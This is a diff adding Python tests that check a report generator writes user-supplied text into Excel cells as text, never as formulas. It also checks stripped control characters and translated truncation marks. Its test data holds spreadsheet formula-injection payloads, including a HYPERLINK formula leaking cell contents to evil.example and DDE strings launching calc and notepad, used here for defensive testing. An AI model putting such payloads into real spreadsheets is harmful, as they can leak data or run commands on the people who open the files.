@@ -10,6 +10,7 @@ import datetime as dt
 import io
 import shutil
 import subprocess
+import zipfile
 import sys
 from pathlib import Path
 
@@ -309,3 +310,75 @@ def test_the_weekly_report_dag(tmp_path, monkeypatch):
     assert "resa_weekly_report" not in registered_dags()
     write_config(tmp_path / "config.yaml", "plan.xlsx")  # no cutover manager: nobody to tell
     assert "resa_weekly_report" not in registered_dags()
+
+
+# -- people's text is text (issue 14) ------------------------------------------------------------
+
+HOSTILE = {
+    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Open the runbook")',
+    "plus": "+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C notepad'!A1",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "error": "#N/A",
+    "control": "bell\x07 and\x01 escape\x1b",
+}
+
+
+def hostile_results():
+    document = recap(run_id="=1+1")
+    a, b = document["steps"][:2]
+    a["label"], a["comment"], a["owner_name"] = HOSTILE["formula"], HOSTILE["plus"], HOSTILE["error"]
+    b["label"], b["team"] = HOSTILE["control"], HOSTILE["at"]
+    defects = [{**DEFECTS[0], "title": HOSTILE["minus"], "description": "x" * 40_000 + "THE END"},
+               {**DEFECTS[0], "id": 8, "title": HOSTILE["tab"], "description": HOSTILE["cr"], "created_by": HOSTILE["formula"]}]
+    transfers = [{**TRANSFERS[0], "message": HOSTILE["formula"]}]
+    return run_results_from_json(document, {**RUN, "dag_run_id": "=1+1"}, defects, transfers)
+
+
+def test_peoples_text_is_written_as_text_never_as_a_formula(tmp_path, comparison):
+    path = write_results(tmp_path / "results.xlsx", hostile_results(), comparison)
+    with zipfile.ZipFile(path) as archive:  # the file itself: not one formula in any sheet
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in xml or "<f " in xml or 't="e"' in xml for xml in sheets)
+    book = openpyxl.load_workbook(path)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f" and cell.data_type != "e", (sheet.title, cell.coordinate, cell.value)
+    steps = book["Steps"]
+    header = [c.value for c in steps[1]]
+    label, comment = steps.cell(2, header.index("Label") + 1), steps.cell(2, header.index("Comment") + 1)
+    assert (label.value, label.data_type, label.quotePrefix) == (HOSTILE["formula"], "s", True)
+    assert (comment.value, comment.data_type, comment.quotePrefix) == (HOSTILE["plus"], "s", True)
+    owner_name = steps.cell(2, header.index("Owner name") + 1)
+    assert (owner_name.value, owner_name.data_type) == ("#N/A", "s")
+    assert steps.cell(3, header.index("Label") + 1).value == "bell\ufffd and\ufffd escape\ufffd"
+    assert steps.cell(3, header.index("Team") + 1).quotePrefix
+    assert steps.cell(3, header.index("Transfers") + 1).value == "bob → frank: " + HOSTILE["formula"]
+    defects = book["Defects"]
+    assert defects["C2"].value == HOSTILE["minus"] and defects["C2"].quotePrefix
+    assert defects["C3"].value == HOSTILE["tab"] and defects["C3"].quotePrefix
+    assert defects["F3"].value == "\n=1+1" and defects["F3"].quotePrefix  # XML reads a lone CR as a line feed
+    assert defects["G3"].value == HOSTILE["formula"] and defects["G3"].data_type == "s"
+    run = {r[0]: r[1] for r in book["Run"].iter_rows(values_only=True)}
+    assert run["Run"] == "=1+1"
+
+
+def test_text_over_excels_limit_is_cut_with_a_visible_mark(tmp_path):
+    path = write_results(tmp_path / "results.xlsx", hostile_results())
+    description = openpyxl.load_workbook(path)["Defects"]["F2"].value
+    assert len(description) <= 32_767 and description.startswith("x" * 30_000)
+    assert description.endswith("… [cut: 40,007 characters]") and "THE END" not in description
+
+
+def test_the_limit_counts_as_excel_does_and_the_mark_is_translated():
+    from transition.i18n import use_language
+    from transition.sheet_text import EXCEL_CELL_LIMIT, cell_text
+
+    assert cell_text("y" * EXCEL_CELL_LIMIT) == "y" * EXCEL_CELL_LIMIT  # at the limit: as it is
+    emoji = cell_text("😀" * 20_000)  # 40,000 UTF-16 units: Excel counts each emoji twice
+    assert len(emoji.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT and emoji.endswith("[cut: 20,000 characters]")
+    with use_language("fr"):
+        assert cell_text("z" * 40_000).endswith("[coupé : 40\u202f000 caractères]")
